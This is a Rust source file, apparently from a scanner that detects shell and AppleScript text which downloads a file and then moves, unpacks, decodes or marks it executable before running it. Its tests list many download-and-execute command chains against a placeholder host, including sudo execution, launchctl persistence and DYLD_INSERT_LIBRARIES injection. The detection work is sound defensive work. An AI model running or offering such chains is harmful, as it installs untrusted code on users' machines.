//! What a command leaves to those that follow it: files that it writes, moves and unpacks, and variables that it sets.

use super::command::{Command, Word};
use super::download::{downloader, file, gives_download};
use super::interpreter::program;
use super::known::Known;

/// Keeps it. `is_download`: that the command writes or reads one.
pub(super) fn leave(command: &Command, is_download: bool, known: &mut Known) {
    let words = &command.words;
    if let Some((name, arguments)) = downloader(words) {
        let path = file(&name, arguments).unwrap_or_default().unwrap_or_default();
        known.write_file(command.output.as_deref().unwrap_or(&path));
    }
    let is_given = words.iter().any(|word| word.is_download);
    if is_given || command.has_written || command.input.unwrap_or(is_download) {
        command.output.iter().for_each(|path| known.write_file(path));
        if let Some((program, arguments)) = program(words) {
            pass_on(&program.base_name(), arguments, known);
        }
    }
    // `for x in $(curl …)`
    if let [name, within, values @ ..] = words.as_slice()
        && within.text == "in"
        && values.iter().any(|value| value.is_download)
    {
        known.set_download(&name.text);
    }
    if gives_download(words).is_some() {
        // `set x to do shell script "curl …"`, `x = app.doShellScript("curl …")`
        let at = words.iter().position(|word| matches!(word.text.as_str(), "to" | "="));
        let name = at.and_then(|at| words.get(at.checked_sub(1)?));
        name.into_iter().for_each(|name| known.set_download(&name.text));
    }
}

/// What becomes of a download that a program of this name reads.
fn pass_on(name: &str, arguments: &[Word], known: &mut Known) {
    let operands: Vec<&Word> = arguments.iter().filter(|word| !word.text.starts_with('-')).collect();
    match name {
        "tee" => operands.iter().for_each(|word| known.write_file(&word.text)),
        "read" | "mapfile" | "readarray" => operands.iter().for_each(|word| known.set_download(&word.text)),
        "chmod" => operands.iter().filter(|word| word.is_file).for_each(|word| known.allow(&word.text)),
        "mv" | "cp" | "ln" | "install" | "rsync" => move_files(&operands, known),
        "base64" | "dd" | "gpg" | "openssl" => outputs(arguments).for_each(|path| known.write_file(path)),
        "gunzip" | "gzip" | "bunzip2" | "bzip2" | "unxz" | "xz" | "uncompress" => {
            let packed = operands.iter().filter(|word| word.is_file);
            packed.filter_map(|word| word.text.rsplit_once('.')).for_each(|(path, _)| known.write_file(path));
        }
        "ditto" if !has_letter(arguments, 'x') => move_files(&operands, known),
        "ditto" => operands.last().into_iter().for_each(|word| known.unpack(&word.text)),
        "hdiutil" if operands.first().is_some_and(|word| matches!(word.text.as_str(), "attach" | "mount")) => {
            known.unpack(value_of(arguments, &["-mountpoint", "-mountroot"]).unwrap_or("/Volumes"));
        }
        "unzip" => known.unpack(value_of(arguments, &["-d"]).unwrap_or_default()),
        "tar" | "bsdtar" if is_extraction(arguments) => {
            let last = |word: &Word| word.letters().is_some_and(|letters| letters.ends_with('C'));
            let of_letter = arguments.iter().position(last).and_then(|at| arguments.get(at + 1));
            let folder = of_letter.map(|word| word.text.as_str()).or_else(|| value_of(arguments, &["--directory"]));
            known.unpack(folder.unwrap_or_default());
        }
        _ => {}
    }
}

fn has_letter(arguments: &[Word], letter: char) -> bool {
    arguments.iter().filter_map(Word::letters).any(|letters| letters.contains(letter))
}

/// `tar -xzf`, `tar xzf`
fn is_extraction(arguments: &[Word]) -> bool {
    let is_first =
        arguments.first().is_some_and(|word| !word.text.contains(['-', '.', '/']) && word.text.contains('x'));
    is_first || has_letter(arguments, 'x') || arguments.iter().any(|word| word.text == "--extract")
}

fn value_of<'w>(arguments: &'w [Word], options: &[&str]) -> Option<&'w str> {
    let at = arguments.iter().position(|word| options.contains(&word.text.as_str()))?;
    arguments.get(at + 1).map(|word| word.text.as_str())
}

/// Where a program that decodes writes: `-o f`, `-out f`, `of=f`.
fn outputs(arguments: &[Word]) -> impl Iterator<Item = &str> {
    let named = value_of(arguments, &["-o", "-out", "--output"]);
    named.into_iter().chain(arguments.iter().filter_map(|word| word.text.strip_prefix("of=")))
}

/// The last operand is the new name of the others, or the directory that they are in.
fn move_files(operands: &[&Word], known: &mut Known) {
    let Some((to, from)) = operands.split_last() else { return };
    let folder = to.text.trim_end_matches('/');
    for word in from.iter().filter(|word| word.is_file) {
        let name = word.text.trim_end_matches('/').rsplit('/').next().unwrap_or_default();
        let path = format!("{folder}/{name}");
        known.write_file(&to.text);
        known.write_file(&path);
        // It can be a directory, as an application is.
        known.unpack(&path);
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::runs_download;
    use crate::alert::shell::tests::{are_not_run, are_run};

    #[test]
    fn a_download_is_run_that_is_moved_unpacked_or_made_executable_first() {
        are_run(&[
            "curl -o /tmp/u https://a.example/x; xattr -c /tmp/u; chmod +x /tmp/u; /tmp/u",
            "curl -o /tmp/u https://a.example/x && chmod +x /tmp/u && sudo /tmp/u",
            "curl -so a https://a.example/x; mv a b; sh b",
            "curl -so /tmp/a https://a.example/x; cp /tmp/a ~/b/; ~/b/a",
            "curl -sL https://a.example/x -o /tmp/a.zip; unzip /tmp/a.zip -d /tmp/y; open /tmp/y/App.app",
            "curl -sL https://a.example/x -o /tmp/a.zip && ditto -xk /tmp/a.zip /tmp/y && /tmp/y/run",
            "curl -sLO https://a.example/a.zip && unzip -q a.zip && open App.app",
            "curl -sL https://a.example/x | tar xz -C /tmp/y; /tmp/y/run",
            "curl -s https://a.example/x -o a.tgz; tar -xzf a.tgz; sh install.sh",
            "curl -s https://a.example/x | tar -x; ./run",
            "curl -s https://a.example/x -o a.sh.gz; gunzip a.sh.gz; sh a.sh",
            "curl -s https://a.example/x -o a.gz; gunzip -c a.gz > b; sh b",
            "curl -s https://a.example/x -o a; base64 -d -i a -o b; sh b",
            "curl -s https://a.example/x -o a; openssl enc -d -aes-256-cbc -in a -out b; sh b",
            "curl -s https://a.example/x | dd of=/tmp/a; sh /tmp/a",
            "curl -s https://a.example/x | sudo tee /tmp/a; sudo sh /tmp/a",
            "curl -sL https://a.example/x -o /tmp/a.dmg; hdiutil attach /tmp/a.dmg; open /Volumes/A/A.app",
            "curl -sL https://a.example/x -o /tmp/a.dmg; hdiutil attach -mountpoint /tmp/m /tmp/a.dmg; /tmp/m/run",
            "curl -sLo a.dmg https://a.example/x; hdiutil mount a.dmg; cp -R /Volumes/A/A.app /Applications; open /Applications/A.app",
            "T=$(mktemp); curl -s https://a.example/x -o $T; chmod +x $T; $T",
            "D=$(mktemp -d); curl -s https://a.example/x -o $D/a; chmod +x $D/a; $D/a",
            "curl -s https://a.example/x > /tmp/a; chmod 755 /tmp/a; open /tmp/a",
            "curl -s https://a.example/x -o /tmp/a.command; open /tmp/a.command",
            "curl -s https://a.example/x -o /tmp/a; open -a Terminal /tmp/a",
            "curl -s https://a.example/x -o /tmp/a.workflow; automator /tmp/a.workflow",
            "curl -s https://a.example/x -o /tmp/a; launchctl submit -l a -- /tmp/a",
            "curl -s https://a.example/x -o ~/a.plist; launchctl load -w ~/a.plist",
            "curl -s https://a.example/x -o /tmp/a.dylib; DYLD_INSERT_LIBRARIES=/tmp/a.dylib /usr/bin/true",
            "curl -s --output-dir /tmp -O https://a.example/a.sh; sh /tmp/a.sh",
        ]);
        for text in [
            "do shell script \"curl -o /tmp/a https://a.example/x\"\ndo shell script \"/tmp/a\"",
            "do shell script \"curl -o /tmp/a https://a.example/x\"\nrun script POSIX file \"/tmp/a\"",
            "do shell script \"curl -o /tmp/a https://a.example/x\"\nset s to load script POSIX file \"/tmp/a\"",
            "app.doShellScript('curl -o /tmp/a https://a.example/x'); app.doShellScript('/tmp/a')",
        ] {
            assert!(runs_download(text), "{text}");
        }
    }

    #[test]
    fn a_download_is_not_run_that_is_moved_or_unpacked_and_then_only_looked_at() {
        are_not_run(&[
            "curl -o /tmp/u https://a.example/x; chmod +x /tmp/u",
            "curl -so a https://a.example/x; mv a b; sh c",
            "curl -so a https://a.example/x; mv c d; sh d",
            "curl -sLo a.zip https://a.example/x; unzip a.zip; open README.txt; echo id",
            "curl -sLo a.zip https://a.example/x; unzip a.zip -d /tmp/y; cat /tmp/y/a.txt; sh report.sh",
            "curl -sLo a.zip https://a.example/x; unzip b.zip -d /tmp/y; /tmp/y/run",
            "curl -sLo a.zip https://a.example/x; unzip a.zip; sh /usr/local/report.sh",
            "curl -sLo a.zip https://a.example/x; unzip a.zip; open https://a.example/a.app",
            "curl -sLo x.tgz https://a.example/x; tar -tzf x.tgz; sh report.sh",
            "curl -sLo a.tgz https://a.example/x; tar tzf a.tgz; sh report.sh",
            "curl -sL https://a.example/x | tar xz --strip 1 -C brew",
            "curl -sLo a.dmg https://a.example/x; hdiutil verify a.dmg; open /Volumes/A/A.app",
            "curl -sLo a.dmg https://a.example/x; hdiutil attach a.dmg; cp -R /Volumes/A/A.app /Applications",
            "curl -sLo a.pdf https://a.example/x; open a.pdf",
            "curl -sLo a.plist https://a.example/x; launchctl load b.plist; plutil a.plist",
            "T=$(mktemp); curl -s https://a.example/x -o $T; cat $T",
            "curl -s --output-dir /tmp -O https://a.example/a.sh; sh /tmp/b.sh",
            "X=\"$(curl -s https://a.example/x) is it\"; echo \"$X\"; sh report.sh",
        ]);
        let text = "do shell script \"curl -o /tmp/a https://a.example/x\"\nset f to \"/tmp/a\"\nrun script POSIX file \"/tmp/b\"";
        assert!(!runs_download(text), "{text}");
    }
}
